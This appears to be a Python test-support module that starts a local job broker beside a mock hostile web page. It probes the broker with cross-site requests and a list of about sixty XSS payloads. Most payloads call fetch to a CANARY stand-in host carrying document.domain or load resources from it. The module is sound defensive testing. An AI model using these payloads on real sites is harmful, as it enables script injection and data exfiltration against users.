"""A web page that means harm to a broker on the same machine: its server, what it tries, and where to look afterwards.

Gives tests the attack and the evidence; what has to hold is the tests' to say.
"""

import contextlib
import hashlib
import socket
import sqlite3
import threading
from collections.abc import MutableMapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, NamedTuple, Self

import httpx
import uvicorn

from broker.app import Application
from broker.cli.protocol import OneWriteProtocol
from broker.config import Settings
from tests.support.worker import ScriptedWorker

START_SECONDS = 30.0
#: What a page can send without anybody's leave, and what it can only ask for. Told the address and a job's id.
SIX_KINDS = """([url, job]) => {
  const told = (sent) => sent.then((answer) => `${answer.type} ${answer.status}`, () => "failed");
  const shown = new Promise((done) => {
    const image = new Image();
    image.onload = () => done("shown");
    image.onerror = () => done("failed");
    image.src = url;
  });
  const body = JSON.stringify({ job_id: job, prompt: "x", lease_token: "lt_x", directive: "drain" });
  const form = new FormData();
  form.append("job_id", job);
  form.append("video", new Blob(["x"], { type: "video/mp4" }), "a.mp4");
  const simple = { method: "POST", mode: "no-cors" };
  const json = { "Content-Type": "application/json", Authorization: "Bearer x" };
  return Promise.all([
    shown,
    told(fetch(url, { mode: "no-cors", cache: "no-store" })),
    told(fetch(url, { ...simple, headers: { "Content-Type": "text/plain" }, body })),
    told(fetch(url, { ...simple, body: form })),
    told(fetch(url, { method: "POST", headers: json, body })),
    told(fetch(url, { method: "DELETE" })),
  ]);
}"""
#: The seventh: the whole page goes there, as if a person had pressed a button.
SUBMIT_FORM = """([url, job]) => {
  const form = document.createElement("form");
  form.action = url;
  form.method = "post";
  form.enctype = "multipart/form-data";
  const field = document.createElement("input");
  field.name = "job_id";
  field.value = job;
  form.append(field);
  document.body.append(form);
  form.submit();
}"""


class Met(NamedTuple):
    """One request as it reached the broker, and the status it got."""

    method: str
    path: str
    host: str
    origin: str
    site: str
    content_type: str
    status: int


class WatchedBroker:
    """A broker in a thread of this process, with everything that reaches it written down in front of the guard."""

    def __init__(self, folder: Path, port: int = 0) -> None:
        names = {"DB_PATH": "jobs.db", "VIDEO_STORAGE_PATH": "videos", "LOG_PATH": "logs"}
        environ = {name: str(folder / path) for name, path in names.items()}
        self._application = Application(Settings.from_env(environ | {"MIN_FREE_DISK_MIB": "0"}))
        self._wanted_port = port
        self.met: list[Met] = []

    def __enter__(self) -> Self:
        self._listener = socket.create_server(("127.0.0.1", self._wanted_port))
        self.port: int = self._listener.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        options = {"interface": "asgi3", "lifespan": "on", "ws": "none", "proxy_headers": False}
        self._server = _Server(
            uvicorn.Config(self._watched, http=OneWriteProtocol, log_level="error", **options)
        )
        self._thread = threading.Thread(target=self._server.run, args=([self._listener],))
        self._thread.start()
        assert self._server.is_ready.wait(START_SECONDS), "The broker did not start."
        return self

    def __exit__(self, *_: object) -> None:
        self._server.should_exit = True
        self._thread.join(START_SECONDS)
        self._listener.close()

    def client(self, **options: Any) -> httpx.Client:
        return httpx.Client(base_url=self.url, timeout=30.0, trust_env=False, **options)

    async def _watched(self, scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] != "http":
            await self._application(scope, receive, send)
            return

        async def told(message: MutableMapping[str, Any]) -> None:
            if message["type"] == "http.response.start":
                self.met.append(_met(scope, message["status"]))
            await send(message)

        await self._application(scope, receive, told)


class _Server(uvicorn.Server):
    def __init__(self, config: uvicorn.Config) -> None:
        super().__init__(config)
        self.is_ready = threading.Event()

    async def startup(self, sockets: list[socket.socket] | None = None) -> None:
        await super().startup(sockets)
        self.is_ready.set()


def _met(scope: Any, status: int) -> Met:
    headers = {name.decode(): value.decode("latin-1") for name, value in scope["headers"]}
    content_type = headers.get("content-type", "").partition(";")[0]
    who = [headers.get(name, "") for name in ("host", "origin", "sec-fetch-site")]
    return Met(scope["method"], scope["path"], *who, content_type, status)


class HostileSite:
    """A web server of somebody else's, on this machine for the test; writes down who comes."""

    def __init__(self, port: int = 0, page: bytes = b"<!doctype html><body>Hello") -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                with contextlib.suppress(ConnectionError):  # left for another page meanwhile
                    self.wfile.write(page)

            do_POST = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self._http = ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self._http.daemon_threads = True
        self.port: int = self._http.server_address[1]

    def __enter__(self) -> Self:
        threading.Thread(target=self._http.serve_forever, args=(0.05,), daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._http.shutdown()
        self._http.server_close()


def fill(broker: WatchedBroker, film: bytes) -> dict[str, str]:
    """One job in each state but processing; their ids by state."""
    with broker.client() as client, ScriptedWorker(broker) as worker:  # type: ignore[arg-type]

        def ask(path: str, **body: Any) -> str:
            return str(client.post(path, json=body).raise_for_status().json()["id"])

        films = [ask("/v1/videos/generations", prompt=f"a {n} cat") for n in ("first", "second")]
        assert worker.upload(worker.take(), film).status_code == 200
        worker.error(worker.take(), "No.", code="moderated")
        chat = ask("/v1/responses", input="hello", background=True)
        worker.answer(worker.take("chat"), "Hello yourself.")
        cancelled = ask("/v1/videos/generations", prompt="a third cat")
        client.delete(f"/jobs/{cancelled}")
        pending = ask("/v1/videos/generations", prompt="a waiting cat")
    names = ("completed", "failed", "chat", "cancelled", "pending")
    return dict(zip(names, (*films, chat, cancelled, pending), strict=True))


def everything(folder: Path) -> dict[str, str]:
    """Each table and each file that is kept, by a digest of all that is in it."""
    kept = {
        path.relative_to(folder).as_posix(): _digest(path.read_bytes())
        for path in (folder / "videos").rglob("*")
        if path.is_file()
    }
    with contextlib.closing(sqlite3.connect(f"file:{folder / 'jobs.db'}?mode=ro", uri=True)) as db:
        tables = [
            name for (name,) in db.execute("SELECT name FROM sqlite_schema WHERE type='table'")
        ]
        for name in tables:
            rows = db.execute(f'SELECT * FROM "{name}" ORDER BY 1').fetchall()
            kept[f"table {name}"] = _digest(repr(sorted(map(repr, rows))).encode())
    return kept


def _digest(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


#: How text becomes code where it is not treated as text. `CANARY` is where it would report to.
PAYLOADS = [
    line.replace("CALL", "fetch('//CANARY/'+document.domain),alert(1)")
    for line in r"""
<script>CALL</script>
<SCRIPT SRC=//CANARY/a.js></SCRIPT>
<script/x>CALL</script >
<<script>CALL//<</script>
<scr<script>ipt>CALL</scr</script>ipt>
"><script>CALL</script>
'><script>CALL</script>
</title><script>CALL</script>
</textarea><script>CALL</script>
</style><script>CALL</script>
</script><script>CALL</script>
--><script>CALL</script>
]]><script>CALL</script>
<script type=module src=//CANARY/b.js></script>
<img src=x onerror=CALL>
<img src=//CANARY/a.png>
<img/src=x/onerror=CALL>
<img srcset="//CANARY/b.png 1x">
<IMG SRC="jav&#x09;ascript:CALL">
" onerror=CALL src=x x="
' onmouseover=CALL autofocus onfocus=CALL x='
<svg onload=CALL>
<svg/onload=CALL//
<svg><script>CALL</script></svg>
<svg><animate onbegin=CALL attributeName=x dur=1s>
<svg><a xlink:href="javascript:CALL"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='CALL'/>#x">
<math><mtext><table><mglyph><style><img src=x onerror=CALL>
<math href="javascript:CALL">x</math>
<body onload=CALL>
<iframe src="javascript:CALL">
<iframe srcdoc="<script>CALL</script>">
<iframe src=//CANARY/c.html></iframe>
<object data="javascript:CALL">
<object data=//CANARY/d.html></object>
<embed src=//CANARY/e.html>
<video src=x onerror=CALL>
<video poster=//CANARY/f.png>
<audio src=//CANARY/g.mp3 autoplay onerror=CALL>
<details open ontoggle=CALL>
<input autofocus onfocus=CALL>
<select autofocus onfocus=CALL>
<marquee onstart=CALL>
<form action=//CANARY/h><button autofocus>x</button></form>
<form><button formaction="javascript:CALL">x
<a href="javascript:CALL" id=x tabindex=0>x</a>
<base href=//CANARY/>
<link rel=stylesheet href=//CANARY/i.css>
<link rel=prefetch href=//CANARY/j>
<meta http-equiv=refresh content="0;url=//CANARY/k">
<style>@import '//CANARY/l.css';</style>
<div style="background:url(//CANARY/m.png)">
<template><script>CALL</script></template>
<noscript><p title="</noscript><img src=x onerror=CALL>">
<x onclick=CALL autofocus tabindex=1 onfocus=CALL>
javascript:CALL
data:text/html,<script>CALL</script>
![x](//CANARY/n.png) [y](javascript:CALL)
{{constructor.constructor('CALL')()}}${CALL}#{CALL}
&lt;script&gt;CALL&lt;/script&gt;
\u003cscript\u003eCALL\u003c/script\u003e
%3Cscript%3ECALL%3C/script%3E
""".strip().splitlines()
]
